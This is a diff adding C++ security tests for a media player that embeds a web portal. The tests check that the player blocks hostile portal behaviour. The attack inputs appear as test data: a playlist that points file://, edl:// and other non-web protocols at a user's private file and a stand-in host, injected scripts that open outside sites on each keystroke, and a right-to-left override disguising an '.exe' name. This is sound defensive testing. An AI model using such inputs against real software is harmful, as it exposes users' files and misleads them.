@@ -12,6 +12,8 @@
 #include "base/JsEscape.h"
 #include "demo/Faults.h"
 #include "e2e/HomePageTest.h"
+#include "fakes/OpenWitnesses.h"
+#include "platform/WebPane.h"
 
 namespace ruvo {
 namespace {
@@ -32,6 +34,17 @@ protected:
         program.Pages().Evaluate(*home, "var a=document.createElement('a');a.href='eeqvod://qvod&&&" + JsEscape(address) +
                                             "&&&T&&&L&&&" + std::to_string(titleId) + "&&&0&&&0';"
                                             "document.body.appendChild(a);a.click();");
+    }
+    std::string Media(const std::string& file) {
+        return program.PortalBase().substr(0, program.PortalBase().size() - 5) + "/media/" + file;
+    }
+    // A playlist whose entries are a file of the user's and hosts of the
+    // portal's choosing, by every protocol but the web's.
+    std::string HostilePlaylist(const std::string& file, const std::string& host) {
+        std::string list = "#EXTM3U\n" + file + "\nfile://" + file + "\n";
+        for (const char* scheme : {"gopher", "rtsp", "rtmp", "mms", "srt", "rist", "httpproxy"})
+            list += std::string(scheme) + "://" + host + "/1x\n";
+        return list + "edl://" + file + "\nslice://0-100@" + file + "\n";
     }
     bool TraceHas(const std::string& prefix) {
         for (const auto& line : program.Trace())
@@ -109,6 +122,87 @@ TEST_F(HostilePortal, PlayLinksFromAForeignFrameAreIgnored) {
     program.Pages().Evaluate(*home, "var g=document.createElement('iframe');g.src='/box/framed.html';"
                                     "document.body.appendChild(g);");
     EXPECT_TRUE(program.WaitFor([&] { return Count("GET /box/h.asp?id=12&v=0&v1=1") > 0; }, 10s));
+}
+
+// An episode's address whose body is a playlist naming other protocols, and
+// the next episode's, downloaded ahead and played from the disk: libmpv
+// connects to none of those hosts and opens no file of the user's.
+TEST_F(HostilePortal, PlaylistsFromThePortalOpenNothingButTheWeb) {
+    test::LoopbackListener listener;
+    const std::string secret = program.Home().File("home/private.mp4");
+    MakeFolders(program.Home().File("home"));
+    ReplaceFileAtomically(secret, ReadWholeFile(std::string(RUVO_DEMO_MEDIA) + "/t18-s0-e1.mp4").value_or(""));
+    test::FileOpenWatch opens(secret);
+    const std::string playlist = HostilePlaylist(secret, listener.HostAndPort());
+    program.Portal().FaultSwitches().Set("list.m3u", *demo::ParseFault("text:" + playlist));
+    program.Portal().FaultSwitches().Set("t15-s0-e2.mp4", *demo::ParseFault("text:" + playlist));
+    StartProgram();
+    PageClicksPlayLink(program.PortalBase() + "list.m3u", 51);
+    ASSERT_TRUE(program.WaitFor([&] { return program.PortalSaw("GET /box/list.m3u"); }, 20s));
+    ASSERT_TRUE(program.WaitForTracePrefix("player failed", 0, 20s));
+    // The next episode is downloaded ahead while the first plays, then
+    // played from the disk.
+    const size_t from = program.Trace().size();
+    program.Pages().ClickLink(*home, "a[href^='eebovod://15-0-0-']");
+    ASSERT_TRUE(program.WaitForTrace("text bo_name=山城往事-第2集", 40s));
+    EXPECT_TRUE(program.WaitForTracePrefix("player failed", from, 20s));
+    EXPECT_EQ(program.PortalRequests("GET /media/t15-s0-e2.mp4"), 1) << "played from the download";
+    EXPECT_EQ(listener.Connections(), 0);
+    EXPECT_FALSE(opens.Opened()) << "the user's file was opened";
+}
+
+// Twenty characters typed into a field of a portal page whose every key
+// opens a browser window and clicks a link to another site: none opens,
+// and the page is held back with a notice.
+TEST_F(HostilePortal, KeysTypedInAPageFieldOpenNothingOutside) {
+    const std::string opened = program.RecordBrowserLaunches();
+    StartProgram();
+    program.Pages().Evaluate(*home, "var f=document.createElement('input');f.id='field';"
+                                    "f.style='position:fixed;left:0;top:0;width:100%;height:100%;z-index:99';"
+                                    "f.onkeydown=function(e){window.open('https://away.invalid/w'+e.key);"
+                                    "var a=document.createElement('a');a.href='https://away.invalid/a'+e.key;"
+                                    "document.body.appendChild(a);a.click();};document.body.appendChild(f);");
+    const auto pane = program.TracedPlace("Pic1");
+    ASSERT_TRUE(pane);
+    std::this_thread::sleep_for(500ms);  // painted
+    if (!program.ClickWindow((*pane)[0] + (*pane)[2] / 2, (*pane)[1] + (*pane)[3] / 2)) GTEST_SKIP() << "no X display";
+    std::this_thread::sleep_for(1200ms);  // the click's own moment has passed
+    ASSERT_TRUE(program.PressKeys("a b c d e f g h i j k l m n o p q r s t"));
+    EXPECT_TRUE(program.WaitForTrace(std::string("text zhun=") + kOutsideOpensHeldText, 10s));
+    EXPECT_NE(program.Pages().Evaluate(*home, "document.getElementById('field').value").find("abcdefghijklmnopqrst"),
+              std::string::npos) << "the keys reached the field";
+    EXPECT_FALSE(PathExists(opened)) << ReadWholeFile(opened).value_or("");
+}
+
+// The side page, sent by script to another site whose address mentions the
+// portal's search page: the main area keeps the portal.
+TEST_F(HostilePortal, AnotherSiteNamingTheSearchPageStaysInTheSidePage) {
+    StartProgram();
+    const auto side = program.WaitForPage("right.asp");
+    ASSERT_TRUE(side);
+    ASSERT_TRUE(program.WaitFor([&] {
+        return program.Pages().Evaluate(*side, "document.readyState=='complete'&&document.links.length>0").find("true") !=
+               std::string::npos;
+    }, 20s));
+    program.Pages().Evaluate(*side, "location.href='http://localhost:" + PortalPort() + "/box/other.html?x=search.asp'");
+    // A script's way to another site is held back, and the page told so.
+    EXPECT_TRUE(program.WaitForTrace(std::string("text zhun=") + kOutsideOpensHeldText, 15s));
+    EXPECT_FALSE(program.PortalSaw("GET /box/other.html"));
+    EXPECT_FALSE(TraceHas("visible pso=1"));
+}
+
+// A name with a right-to-left override and control characters shows, and
+// is stored, without them.
+TEST_F(HostilePortal, BidiOverridesAndControlsNeverReachTheTitleOrTheHistory) {
+    StartProgram();
+    program.Pages().Evaluate(*home, "var a=document.createElement('a');a.href='eeqvod://qvod&&&" +
+                                        JsEscape(Media("t15-s0-e1.mp4")) +
+                                        "&&&E%u202E4pm.exe%07x&&&L%u0085%u2067M&&&52&&&0&&&0';"
+                                        "document.body.appendChild(a);a.click();");
+    ASSERT_TRUE(program.WaitForTrace("text bo_name=E4pm.exe x-L M", 20s));
+    EXPECT_TRUE(program.WaitFor([&] {
+        return ReadWholeFile(program.ProgramFile("date.dat")).value_or("").find("52|E4pm.exe x|L M|") != std::string::npos;
+    }, 10s));
 }
 
 // A portal's reply, a page's link and a stored history row name addresses
